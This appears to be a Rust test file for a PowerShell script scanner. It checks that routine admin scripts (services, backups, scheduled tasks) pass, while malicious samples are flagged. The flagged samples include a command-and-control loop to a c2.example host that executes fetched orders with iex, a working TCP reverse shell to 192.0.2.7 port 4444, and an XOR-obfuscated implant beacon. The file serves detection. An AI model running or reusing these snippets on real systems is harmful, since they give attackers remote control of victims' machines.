//! What administrators write every day raises no alarm; what takes orders does.

// The helpers of a test fail as the test does.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use strongroom_model::{Limits, Report, Verdict};

fn examine(text: &str) -> Report {
    strongroom_files::examine("x.ps1", text.as_bytes(), &Limits::default())
}

fn codes(report: &Report) -> Vec<String> {
    let all = report.walk().into_iter().flat_map(|report| &report.findings);
    all.map(|finding| finding.code.to_string()).collect()
}

const EVERYDAY: &[(&str, &str)] = &[
    (
        "services",
        "$names = 'Spooler', 'W32Time'\nforeach ($n in $names) {\n  $s = Get-Service -Name $n\n  if ($s.Status -ne 'Running') { Start-Service -Name $n; Write-Host \"started $n\" }\n}\n",
    ),
    (
        "directory",
        "Import-Module ActiveDirectory\n$users = Import-Csv .\\users.csv\nforeach ($u in $users) {\n  New-ADUser -Name $u.Name -SamAccountName $u.Sam -Enabled $true\n  Add-ADGroupMember -Identity 'Staff' -Members $u.Sam\n}\n",
    ),
    (
        "backup",
        "param([string]$Source = 'C:\\Data', [string]$Target = 'D:\\Backup')\n$stamp = Get-Date -Format 'yyyyMMdd'\nCompress-Archive -Path $Source -DestinationPath \"$Target\\$stamp.zip\"\nGet-ChildItem $Target -Filter *.zip | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item\n",
    ),
    (
        "each machine is reported to an interface",
        "$machines = Get-Content .\\machines.txt\nforeach ($m in $machines) {\n  $body = @{ name = $m; up = (Test-Connection $m -Count 1 -Quiet) } | ConvertTo-Json\n  Invoke-RestMethod -Method Post -Uri 'https://inventory.example/api/machines' -Body $body -ContentType 'application/json'\n}\n",
    ),
    (
        "a job is posted and waited for",
        "$job = Invoke-RestMethod -Method Post -Uri 'https://deploy.example/api/jobs' -Body '{\"app\":\"shop\"}'\ndo {\n  Start-Sleep -Seconds 10\n  $state = Invoke-RestMethod -Uri \"https://deploy.example/api/jobs/$($job.id)\"\n} while ($state.status -eq 'running')\nWrite-Host $state.status\n",
    ),
    (
        "pages of an interface are read by questions",
        "$page = 1\nwhile ($true) {\n  $answer = Invoke-WebRequest -Method Post -Uri 'https://crm.example/api/search' -Body (@{ page = $page } | ConvertTo-Json) -UseBasicParsing\n  $rows = $answer.Content | ConvertFrom-Json\n  if ($rows.Count -eq 0) { break }\n  $rows | Export-Csv .\\rows.csv -Append\n  $page++\n}\n",
    ),
    (
        "an installer on a share",
        "Start-Process -FilePath msiexec.exe -ArgumentList '/i', '\\\\files.example\\pkg\\agent.msi', '/qn' -Wait\nif ($LASTEXITCODE -ne 0) { Write-Error 'failed' }\n",
    ),
    (
        "a heartbeat",
        "while ($true) {\n  try { Invoke-RestMethod -Method Post -Uri 'https://monitor.example/beat' -Body (hostname) } catch { Write-Warning $_ }\n  Start-Sleep 60\n}\n",
    ),
    (
        "a task for the night",
        "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -File C:\\ops\\backup.ps1'\n$t = New-ScheduledTaskTrigger -Daily -At 3am\nRegister-ScheduledTask -TaskName 'Backup' -Action $a -Trigger $t\n",
    ),
];

#[test]
fn everyday_scripts_raise_no_alarm() {
    let mut alarms = Vec::new();
    for (name, text) in EVERYDAY {
        let report = examine(text);
        println!(
            "{name}: {:?} {:?} {:?}",
            report.verdict(),
            codes(&report),
            report.gaps
        );
        if report.verdict() >= Verdict::Suspicious {
            alarms.push((name, codes(&report)));
        }
    }
    assert!(alarms.is_empty(), "{alarms:?}");
}

#[test]
fn an_installer_that_is_fetched_and_started_is_no_more_than_suspicious() {
    let report = examine(
        "$p = \"$env:TEMP\\setup.exe\"\nInvoke-WebRequest -Uri 'https://vendor.example/setup.exe' -OutFile $p\nStart-Process $p -ArgumentList '/S' -Wait\n",
    );
    assert!(report.verdict() <= Verdict::Suspicious, "{:?}", codes(&report));
}

#[test]
fn orders_over_the_web_are_told() {
    let report = examine(
        "while ($true) {\n  $o = Invoke-RestMethod -Method Post -Uri 'https://c2.example/t' -Body $env:COMPUTERNAME\n  $r = iex $o | Out-String\n  Invoke-RestMethod -Method Post -Uri 'https://c2.example/r' -Body $r\n  Start-Sleep 5\n}\n",
    );
    assert!(
        codes(&report).contains(&"script.c2".to_owned()),
        "{:?}",
        codes(&report)
    );
    assert!(report.verdict() >= Verdict::Suspicious);
}

#[test]
fn orders_over_a_connection_are_told() {
    let shell = "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.7', 4444)\n$s = $c.GetStream()\n[byte[]]$b = 0..65535 | % {0}\nwhile (($i = $s.Read($b, 0, $b.Length)) -ne 0) {\n  $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)\n  $r = (iex $d 2>&1 | Out-String)\n  $o = [text.encoding]::ASCII.GetBytes($r)\n  $s.Write($o, 0, $o.Length)\n}\n";
    let report = examine(shell);
    assert!(
        codes(&report).contains(&"script.reverse-shell".to_owned()),
        "{:?}",
        codes(&report)
    );
    let probe = "foreach ($p in 80, 443) {\n  $c = New-Object System.Net.Sockets.TcpClient\n  $c.Connect('192.0.2.7', $p)\n  Write-Host $p $c.Connected\n  $c.Close()\n}\n";
    let report = examine(probe);
    assert!(
        !codes(&report).contains(&"script.reverse-shell".to_owned()),
        "{:?}",
        codes(&report)
    );
    assert!(report.verdict() < Verdict::Suspicious);
}

#[test]
fn a_protocol_of_its_own_is_told() {
    let implant = "while ($true) {\n  $q = [System.Net.HttpWebRequest]::Create('https://c2.example/a')\n  $body = 'Content-Disposition: form-data; name=x'\n  for ($i = 0; $i -lt $d.Length; $i++) { $d[$i] = $d[$i] -bxor 0x5A }\n  if ($n -eq 1) { } elseif ($n -eq 2) { } elseif ($n -eq 3) { }\n  Start-Sleep 60\n}\n";
    let told = codes(&examine(implant));
    assert!(
        told.iter().any(|code| code.starts_with("script.implant")),
        "{told:?}"
    );
    let upload = "$b = [guid]::NewGuid()\n$body = \"--$b`r`nContent-Disposition: form-data; name=`\"file`\"`r`n\"\n$n = 0\nwhile ($n -lt 3) {\n  Invoke-RestMethod -Method Post -Uri 'https://api.example/upload' -Body $body -ContentType 'multipart/form-data'\n  $n++\n  Start-Sleep 5\n}\n";
    let report = examine(upload);
    assert!(
        !codes(&report)
            .iter()
            .any(|code| code.starts_with("script.implant")),
        "{:?}",
        codes(&report)
    );
    assert!(report.verdict() < Verdict::Suspicious, "{:?}", codes(&report));
}
